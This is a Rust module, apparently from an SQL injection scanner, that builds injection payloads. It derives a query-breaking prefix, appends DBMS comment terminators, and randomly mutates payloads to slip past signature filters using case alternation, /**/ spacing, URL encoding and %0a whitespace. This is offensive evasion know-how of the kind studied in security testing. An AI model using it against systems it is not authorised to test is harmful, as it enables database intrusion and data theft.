//! Payload assembly and mutation
//!
//! A core payload is turned into a request value in two steps: the injection
//! prefix and a DBMS comment are added ([`build_full_payload`]), then a
//! [`MutationProfile`] rewrites it to slip past naive signature filters.

use crate::models::Dbms;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use regex::Regex;
use std::sync::{LazyLock, Mutex};

static SQL_KEYWORD: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(select|union|and|or)\b").expect("keyword regex"));

const QUOTES: [&str; 3] = ["'", "\"", "`"];

fn is_quote(s: &str) -> bool {
    QUOTES.contains(&s)
}

/// True when `probe` ends with `quote` directly after a comment or statement terminator
fn quote_follows_terminator(probe: &str, quote: &str) -> bool {
    let head = probe[..probe.len() - quote.len()].trim_end();
    head.ends_with("--") || head.ends_with('#') || head.ends_with(';')
}

fn is_bare_number(s: &str) -> bool {
    !s.is_empty()
        && !s.contains(['\'', '"', '`'])
        && s.parse::<f64>().map(|n| n.is_finite()).unwrap_or(false)
}

/// Derives the string that breaks out of the original query context from the
/// probe that first showed promise
pub fn derive_prefix(initial_probe: &str) -> String {
    let probe = initial_probe.trim();

    for quote in QUOTES {
        if probe == quote || (probe.ends_with(quote) && !quote_follows_terminator(probe, quote)) {
            return quote.to_string();
        }
    }

    if is_bare_number(probe) {
        return probe.to_string();
    }

    QUOTES
        .iter()
        .find(|q| probe.starts_with(**q))
        .map(|q| q.to_string())
        .unwrap_or_else(|| "'".to_string())
}

/// Combines prefix, core payload and the DBMS comment into one request value
pub fn build_full_payload(prefix: &str, core: &str, dbms: Dbms) -> String {
    let prefix = prefix.trim();
    let core = core.trim();

    let mut full = if is_quote(prefix) && core.starts_with(prefix) {
        core.to_string()
    } else if !prefix.is_empty() {
        if core.starts_with([';', ',']) {
            format!("{prefix}{core}")
        } else {
            format!("{prefix} {core}")
        }
    } else {
        core.to_string()
    };

    let comment = dbms.comment();
    let already_commented = core.contains("--") || core.ends_with('#');
    if !already_commented && !comment.is_empty() {
        if !full.ends_with(' ') {
            full.push(' ');
        }
        full.push_str(comment);
    }
    full.trim().to_string()
}

/// Percent-encodes like `encodeURIComponent`
pub fn url_encode(value: &str) -> String {
    url::form_urlencoded::byte_serialize(value.as_bytes())
        .collect::<String>()
        .replace('+', "%20")
}

/// One draw of mutation choices. Applying the same profile to the two halves of
/// a boolean pair mutates both identically, so they differ only in their condition.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct MutationProfile {
    seed: u64,
    enabled: bool,
    comment_spaces: bool,
    url_encode: bool,
    dbms_whitespace: bool,
}

impl MutationProfile {
    /// Profile that leaves payloads untouched
    pub fn identity() -> Self {
        Self {
            seed: 0,
            enabled: false,
            comment_spaces: false,
            url_encode: false,
            dbms_whitespace: false,
        }
    }

    pub fn apply(&self, payload: &str, dbms: Dbms) -> String {
        if !self.enabled {
            return payload.to_string();
        }
        let mut rng = StdRng::seed_from_u64(self.seed);

        let mut mutated = SQL_KEYWORD
            .replace_all(payload, |caps: &regex::Captures| alternate_case(&caps[0], rng.random_bool(0.5)))
            .into_owned();

        if self.comment_spaces {
            mutated = replace_spaces(&mutated, |_| if rng.random_bool(0.2) { "/**/" } else { " " });
        }

        if self.url_encode {
            mutated = url_encode(&mutated);
        }

        if self.dbms_whitespace && dbms == Dbms::MySql {
            mutated = replace_spaces(&mutated, |_| {
                if rng.random_bool(0.4) {
                    "%0a"
                } else if rng.random_bool(0.7) {
                    "+"
                } else {
                    " "
                }
            });
        }
        mutated
    }
}

fn alternate_case(word: &str, upper_first: bool) -> String {
    word.chars()
        .enumerate()
        .map(|(i, c)| {
            if (i % 2 == 0) == upper_first {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

fn replace_spaces(input: &str, mut pick: impl FnMut(usize) -> &'static str) -> String {
    let mut out = String::with_capacity(input.len());
    for (i, c) in input.chars().enumerate() {
        if c == ' ' {
            out.push_str(pick(i));
        } else {
            out.push(c);
        }
    }
    out
}

/// Source of mutation profiles for one run
pub struct Mutator {
    enabled: bool,
    rng: Mutex<StdRng>,
}

impl Mutator {
    /// `seed` fixes the sequence of profiles; `None` seeds from the OS
    pub fn new(enabled: bool, seed: Option<u64>) -> Self {
        let rng = match seed {
            Some(seed) => StdRng::seed_from_u64(seed),
            None => StdRng::from_os_rng(),
        };
        Self {
            enabled,
            rng: Mutex::new(rng),
        }
    }

    #[cfg(test)]
    fn disabled() -> Self {
        Self::new(false, Some(0))
    }

    pub fn profile(&self) -> MutationProfile {
        if !self.enabled {
            return MutationProfile::identity();
        }
        let mut rng = match self.rng.lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        };
        MutationProfile {
            seed: rng.random(),
            enabled: true,
            comment_spaces: rng.random_bool(0.5),
            url_encode: rng.random_bool(0.3),
            dbms_whitespace: rng.random_bool(0.5),
        }
    }

    /// Mutates a single payload with a fresh profile
    pub fn mutate(&self, payload: &str, dbms: Dbms) -> String {
        self.profile().apply(payload, dbms)
    }
}
